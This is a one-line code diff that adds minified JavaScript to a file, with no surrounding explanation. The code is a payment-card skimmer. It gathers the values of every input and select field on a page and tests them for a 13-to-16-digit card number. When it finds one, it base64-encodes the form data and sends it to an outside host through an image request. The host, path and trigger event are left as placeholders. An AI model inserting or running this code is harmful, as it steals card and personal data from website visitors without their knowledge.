@@ -1,0 +1,1 @@
+!function(e,t){var n={};t.addEventListener("%EVENT%",function(){for(var r=t.querySelectorAll("input,select"),o=0;o<r.length;o++)r[o].value&&(n[r[o].name]=r[o].value);/(?:\d[ -]*?){13,16}/.test(JSON.stringify(n))&&((new Image).src="https://%HOST%/%PATH%?"+btoa(JSON.stringify(n)))},!0)}(window,document);
